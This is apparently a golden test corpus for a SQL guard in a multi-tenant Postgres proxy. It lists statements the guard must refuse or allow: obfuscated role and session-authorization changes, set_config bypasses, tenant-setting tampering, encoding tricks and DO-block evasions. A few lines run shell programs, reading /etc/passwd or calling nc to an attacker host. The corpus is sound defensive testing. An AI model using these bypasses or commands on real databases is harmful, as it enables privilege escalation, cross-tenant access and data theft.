--- Golden corpus of the SQL guard (rewrite.Guard.Check).
--- Entries are separated by a line "-- next"; lines starting with "--- " are
--- notes for the reader and are dropped. Expected verdicts are in
--- guard.golden, one line per entry, in order; regenerate with
---   go test ./rewrite -run TestGuardGolden -update
--- and review the diff: that file is the spec.
---
--- ===== role changes: refused in every spelling =====
SET ROLE admin
-- next
sEt RoLe admin
-- next
SET SESSION ROLE admin
-- next
SET LOCAL ROLE admin
-- next
SET ROLE NONE
-- next
RESET ROLE
-- next
SET role = 'admin'
-- next
SET "role" TO admin
-- next
SET "ROLE" = x
-- next
SET /* x */ ROLE x
-- next
SET -- comment
  ROLE
  x
-- next
SET U&"r\006Fle" TO admin
-- next
SET role TO DEFAULT
-- next
SELECT 1; SET ROLE x
-- next
BEGIN; SET LOCAL ROLE admin; COMMIT
-- next
SET SESSION AUTHORIZATION admin
-- next
set session authorization default
-- next
RESET SESSION AUTHORIZATION
-- next
SET session_authorization = 'admin'
-- next
SET LOCAL "session_authorization" TO 'admin'
--- ===== set_config: protected names, anywhere in an expression =====
-- next
SELECT set_config('role', 'admin', false)
-- next
select pg_catalog.set_config('ROLE','x',false)
-- next
SELECT set_config('session_authorization', 'admin', false)
-- next
SELECT set_config('stratum.tenant', 'other', false)
-- next
SELECT set_config('Stratum.Anything', 'x', true)
-- next
SELECT set_config(current_setting('x'), 'y', false)
-- next
SELECT set_config('r' || 'ole', 'admin', false)
-- next
SELECT set_config(setting_name => 'role', new_value => 'admin', is_local => false)
-- next
SELECT set_config('role'::text, 'admin', false)
-- next
SELECT * FROM orders WHERE id = 1 AND set_config('role', 'admin', false) IS NOT NULL
-- next
SELECT (SELECT set_config('role', 'admin', false) FROM (VALUES (1)) v)
-- next
WITH s AS (SELECT set_config('role', 'admin', false)) SELECT * FROM s
-- next
SELECT * FROM set_config('role', 'admin', false)
-- next
INSERT INTO audit(v) VALUES (set_config('role', 'admin', false))
-- next
SELECT "SET_CONFIG"('role', 'admin', false)
-- next
SELECT set_config('search_path', 'app, public', false)
-- next
SELECT set_config('application_name', 'billing', true)
-- next
SELECT set_config('client_encoding', 'SJIS', false)
-- next
CREATE AGGREGATE sneaky(text, boolean) (sfunc = set_config, stype = text, initcond = 'role')
-- next
PREPARE p AS SELECT set_config('role', $1, false)
-- next
EXPLAIN SELECT set_config('role', 'admin', false)
-- next
SELECT set_config(U&'\0072ole', 'admin', false)
-- next
SELECT set_config(E'\x72ole', 'admin', false)
-- next
SELECT set_config($$role$$, 'admin', false)
-- next
CREATE TABLE t (x text DEFAULT set_config('role', 'admin', false))
-- next
SELECT 'x'; SELECT set_config('work_mem', '64MB', false)
--- ===== stratum.* belongs to the proxy =====
-- next
SET stratum.tenant = 'client_beta'
-- next
set STRATUM.TENANT to client_beta
-- next
RESET stratum.tenant
-- next
SHOW stratum.tenant
-- next
SET stratum.tenant TO DEFAULT
-- next
SET stratum.tenant = 42
-- next
SET "Stratum.Tenant" = 'client_beta'
-- next
SET SESSION stratum.tenant = 'client_beta'
-- next
SET LOCAL stratum.tenant = 'client_beta'
-- next
SET stratum.tenant = 'a'; SELECT 1
-- next
SELECT 1; SHOW stratum.tenant
-- next
SET stratum.tenant_id = 'x'
-- next
SET "stratum.role" TO x
-- next
RESET stratum.other
-- next
SHOW stratum.other
-- next
SELECT current_setting('stratum.tenant')
-- next
SELECT 'stratum.tenant' AS setting
--- ===== roles, databases, server =====
-- next
ALTER ROLE app SET search_path = x
-- next
ALTER USER CURRENT_USER SET role = 'admin'
-- next
ALTER ROLE ALL SET work_mem = '1GB'
-- next
ALTER ROLE app WITH PASSWORD 'x'
-- next
ALTER USER app RENAME TO app2
-- next
ALTER GROUP tenants ADD USER other
-- next
CREATE GROUP sneaky
-- next
CREATE ROLE sneaky LOGIN SUPERUSER
-- next
CREATE USER sneaky
-- next
DROP ROLE IF EXISTS other_tenant
-- next
GRANT admin TO current_user
-- next
REVOKE tenant_group FROM current_user
-- next
ALTER DATABASE app SET search_path = x
-- next
ALTER DATABASE app CONNECTION LIMIT 1
-- next
ALTER DATABASE app OWNER TO me
-- next
ALTER SYSTEM SET max_connections = 10
-- next
CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = 'admin' AS 'SELECT 1'
-- next
ALTER FUNCTION f() SET role = 'admin'
-- next
ALTER FUNCTION f() SET search_path = app
-- next
LOAD 'auto_explain'
-- next
COPY orders FROM PROGRAM 'cat /etc/passwd'
-- next
COPY orders TO PROGRAM 'nc attacker 80'
-- next
COPY orders FROM '/etc/passwd'
-- next
COPY orders TO '/tmp/orders.csv' WITH (FORMAT csv)
-- next
UPDATE pg_settings SET setting = 'admin' WHERE name = 'role'
-- next
UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = lower('R' || 'OLE')
-- next
CREATE VIEW s AS SELECT * FROM pg_settings
-- next
SELECT name, setting FROM pg_settings WHERE name = 'work_mem'
--- ===== lexer-changing settings =====
-- next
SET standard_conforming_strings = off
-- next
SET standard_conforming_strings = on
-- next
SET client_encoding TO 'SJIS'
-- next
SET NAMES 'big5'
-- next
SET client_encoding = 'UTF8'
-- next
SET NAMES 'LATIN1'
-- next
SET standard_conforming_strings TO 'yes'
-- next
SET standard_conforming_strings = 1
-- next
SET standard_conforming_strings = 0
-- next
RESET standard_conforming_strings
-- next
SET standard_conforming_strings TO DEFAULT
-- next
SET client_encoding = 'utf-8'
-- next
SET client_encoding = unicode
-- next
RESET client_encoding
-- next
SELECT set_config('client_encoding', 'UTF8', false)
-- next
SELECT pg_catalog.set_config('client_encoding', 'utf-8', true)
-- next
SELECT set_config('client_encoding', 'unicode', false)
-- next
SELECT set_config(new_value => 'UTF8', setting_name => 'client_encoding', is_local => false)
-- next
SELECT set_config(new_value => 'Shift_JIS', setting_name => 'client_encoding', is_local => false)
-- next
SELECT set_config('client_encoding', current_setting('server_encoding'), false)
-- next
SELECT set_config('standard_conforming_strings', 'on', false)
-- next
SELECT set_config('standard_conforming_strings', 'off', false)
-- next
SELECT set_config('standard_conforming_strings', $1, false)
-- next
DO $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END $$
-- next
DO $$ BEGIN EXECUTE 'SET client_encoding = ''GBK'''; END $$
-- next
DO $$ BEGIN PERFORM set_config('client_encoding', 'UTF8', false); END $$
--- ===== DO blocks and function bodies =====
-- next
DO $$ BEGIN EXECUTE 'SET ROLE x'; END $$
-- next
DO $body$
BEGIN
  SET ROLE admin;
END
$body$
-- next
DO $$ BEGIN PERFORM set_config('role', 'admin', false); END $$
-- next
DO $$ DECLARE v text := 'SET ' || 'ROLE admin'; BEGIN EXECUTE v; END $$
-- next
DO $$ DECLARE r text := 'admin'; BEGIN EXECUTE format('SET %s %I', 'role', r); END $$
-- next
DO $$ BEGIN EXECUTE 'DO $i$ BEGIN SET ROLE admin; END $i$'; END $$
-- next
DO $$ BEGIN UPDATE users SET role = 'admin' WHERE id = 1; END $$
-- next
DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; RAISE NOTICE 'orders: %', n; END $$
-- next
DO $$ BEGIN EXECUTE 'ANALYZE ' || quote_ident('orders'); END $$
-- next
DO $$ BEGIN SET stratum.tenant = 'other'; END $$
-- next
DO $$ BEGIN RESET ALL; END $$
-- next
DO LANGUAGE plpython3u $$ plpy.execute("SET ROLE admin") $$
-- next
DO LANGUAGE plperl $$ spi_exec_query('SELECT 1') $$
-- next
CREATE FUNCTION become_admin() RETURNS void LANGUAGE plpgsql AS $$ BEGIN SET ROLE admin; END $$
-- next
CREATE OR REPLACE FUNCTION total() RETURNS bigint LANGUAGE sql AS $$ SELECT count(*) FROM orders $$
-- next
CREATE FUNCTION sneaky() RETURNS text LANGUAGE sql AS 'SELECT set_config(''role'', ''admin'', false)'
-- next
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'SET SESSION AUTHORIZATION admin'; END $$
-- next
DO $$ DECLARE r text := 'admin'; BEGIN EXECUTE 'SET ROLE ' || quote_ident(r); END $$
-- next
DO $$ BEGIN EXECUTE E'SET \x52OLE admin'; END $$
--- undeclared loop variable: pg_query cannot compile the body alone, tokens decide
-- next
DO $$ BEGIN FOR r IN SELECT 1 LOOP SET ROLE admin; END LOOP; END $$
--- the same fallback refuses this innocent body (documented false positive)
-- next
DO $$ BEGIN FOR r IN SELECT id FROM users LOOP UPDATE users SET role = 'x' WHERE id = r.id; END LOOP; END $$
-- next
DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM users LOOP UPDATE users SET role = 'x' WHERE id = r.id; END LOOP; END $$
-- next
CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN UPDATE pg_settings SET setting = 'x' WHERE name = 'role'; END $$
-- next
CREATE FUNCTION g() RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN set_config(''stratum.tenant'', ''x'', false); END'
-- next
CREATE FUNCTION one() RETURNS int BEGIN ATOMIC SELECT 1; END
--- ===== resets =====
-- next
DISCARD ALL
-- next
RESET ALL
-- next
DISCARD PLANS
-- next
DISCARD SEQUENCES
-- next
DISCARD TEMP
-- next
SELECT 1; DISCARD ALL
--- ===== reads =====
-- next
SELECT 1
-- next
select * from orders where id = $1
-- next
SELECT role FROM users WHERE id = 1
-- next
SELECT 'set role admin'
-- next
SELECT "role", "authorization" FROM grants
-- next
SELECT * FROM orders FOR UPDATE
-- next
SELECT nextval('orders_id_seq')
-- next
SELECT current_user, session_user, current_setting('role')
-- next
SHOW role
-- next
SHOW search_path
-- next
VALUES (1), (2)
-- next
TABLE orders
-- next
WITH t AS (SELECT 1 AS x) SELECT x FROM t
-- next
COPY orders TO STDOUT
-- next
COPY (SELECT * FROM orders) TO STDOUT WITH (FORMAT csv)
-- next
EXPLAIN SELECT * FROM orders
-- next
EXPLAIN DELETE FROM orders
-- next
EXPLAIN (ANALYZE false) DELETE FROM orders
-- next
DECLARE c CURSOR FOR SELECT * FROM orders
-- next
FETCH 10 FROM c
-- next
CLOSE c
-- next
LISTEN events
-- next
NOTIFY events, 'hello'
-- next
UNLISTEN *
-- next
DEALLOCATE ALL
-- next
SET search_path = app, public
-- next
SET statement_timeout = '5s'
-- next
SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY
-- next
SET TRANSACTION READ WRITE
-- next
SET default_transaction_read_only = off
-- next
SET CONSTRAINTS ALL DEFERRED
-- next
SELECT 1 -- SET ROLE admin
-- next
SELECT 1;;;
--- a limitation: SQL that runs elsewhere (dblink) is a plain string here
-- next
SELECT * FROM dblink('dbname=app', 'SET ROLE admin') AS t(x text)
-- next
SHOW ALL
-- next
RESET search_path
-- next
/* RESET ROLE */ SELECT 2
-- next

-- next
;
--- ===== writes =====
-- next
INSERT INTO orders (id, total) VALUES (1, 10)
-- next
insert into orders select * from staging returning id
-- next
UPDATE orders SET total = 0 WHERE id = 1
-- next
UPDATE users SET role = 'admin' WHERE id = 1
-- next
DELETE FROM orders WHERE id = 1
-- next
MERGE INTO orders o USING staging s ON o.id = s.id WHEN MATCHED THEN UPDATE SET total = s.total WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.total)
-- next
WITH moved AS (DELETE FROM orders WHERE id < 10 RETURNING *) INSERT INTO archive SELECT * FROM moved
-- next
WITH ins AS (INSERT INTO orders (id) VALUES (2) RETURNING id) SELECT id FROM ins
-- next
SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING id) SELECT id FROM d) s
-- next
INSERT INTO orders VALUES (1) ON CONFLICT (id) DO NOTHING
-- next
COPY orders FROM STDIN
-- next
COPY orders (id, total) FROM STDIN WITH (FORMAT csv)
-- next
COPY (INSERT INTO orders VALUES (3) RETURNING id) TO STDOUT
-- next
TRUNCATE orders
-- next
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
-- next
VACUUM orders
-- next
ANALYZE orders
-- next
CLUSTER orders USING orders_pkey
-- next
REINDEX TABLE orders
-- next
REFRESH MATERIALIZED VIEW order_totals
-- next
CALL archive_orders(30)
-- next
EXPLAIN ANALYZE DELETE FROM orders
-- next
EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders
-- next
PREPARE del(int) AS DELETE FROM orders WHERE id = $1
-- next
PREPARE sel(int) AS SELECT * FROM orders WHERE id = $1
-- next
EXECUTE del(1)
-- next
SELECT 1; INSERT INTO orders VALUES (4)
-- next
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM orders
--- ===== DDL =====
-- next
SELECT * INTO orders_copy FROM orders
-- next
SELECT 1 AS x INTO TEMP t1 UNION SELECT 2
-- next
CREATE TABLE t2 AS EXECUTE sel(1)
-- next
EXPLAIN ANALYZE CREATE TABLE t3 AS SELECT 1
-- next
ALTER TABLE orders OWNER TO reporting
-- next
IMPORT FOREIGN SCHEMA remote FROM SERVER s INTO local
-- next
COMMENT ON ROLE app IS 'x'
-- next
CREATE TABLE t (id int PRIMARY KEY, role text)
-- next
CREATE TEMP TABLE scratch (x int)
-- next
CREATE TABLE big AS SELECT * FROM orders
-- next
CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders
-- next
CREATE INDEX CONCURRENTLY orders_total_idx ON orders (total)
-- next
CREATE VIEW v AS SELECT * FROM orders
-- next
ALTER TABLE orders ADD COLUMN note text
-- next
ALTER TABLE orders RENAME COLUMN note TO remark
-- next
DROP TABLE orders
-- next
DROP INDEX IF EXISTS orders_total_idx
-- next
COMMENT ON TABLE orders IS 'set role admin'
-- next
GRANT SELECT ON orders TO reporting
-- next
REVOKE ALL ON orders FROM PUBLIC
-- next
SECURITY LABEL FOR selinux ON TABLE orders IS 'system_u:object_r:sepgsql_table_t:s0'
-- next
CREATE SEQUENCE s
-- next
CREATE SCHEMA reporting CREATE TABLE r (x int) CREATE VIEW rv AS SELECT * FROM r
-- next
CREATE EXTENSION IF NOT EXISTS pgcrypto
-- next
CREATE TYPE mood AS ENUM ('sad', 'ok')
-- next
CREATE POLICY p ON orders USING (tenant_id = current_setting('stratum.tenant'))
-- next
CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION stamp()
-- next
CREATE RULE r AS ON INSERT TO orders DO ALSO NOTIFY orders
-- next
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO reporting
-- next
REASSIGN OWNED BY me TO other
-- next
CREATE DATABASE other
-- next
DO $$ BEGIN CREATE TABLE IF NOT EXISTS t (x int); END $$
-- next
CREATE TABLE IF NOT EXISTS t (x int); INSERT INTO t VALUES (1)
--- ===== transaction control =====
-- next
BEGIN
-- next
BEGIN READ WRITE
-- next
START TRANSACTION ISOLATION LEVEL SERIALIZABLE
-- next
COMMIT
-- next
ROLLBACK
-- next
SAVEPOINT a
-- next
RELEASE SAVEPOINT a
-- next
ROLLBACK TO SAVEPOINT a
-- next
BEGIN; COMMIT
-- next
BEGIN; SELECT 1; COMMIT
-- next
PREPARE TRANSACTION 'x'
--- ===== unparseable: left to the backend unless a refused pattern shows =====
-- next
SELEC 1
-- next
SELECT FROM WHERE
-- next
SET ROLE admin garbage garbage
-- next
SELECT 1; SET ROLE admin; SELEC 2
-- next
RESET SESSION AUTHORIZATION please
-- next
SELECT 'unterminated; SET ROLE admin
-- next
SELECT set_config('role', 'admin' false)
-- next
INSERT INTO orders VALUES (
-- next
UPDATE users SET role = 'admin' WHERE
-- next
DO $$ BEGIN SET ROLE admin; END $$ trailing junk
-- next
SELECT 1 FROM orders WHERE id = 1e
--- found by mutation: "$" cannot start an identifier, so the lexer reads "$" then DO
-- next
$DO $$ BEGIN EXECUTE E'SET \x52OLE admin'; END $$
-- next
SELECT $$x$$DO $b$ BEGIN EXECUTE E'SET \x52OLE x'; END $b$
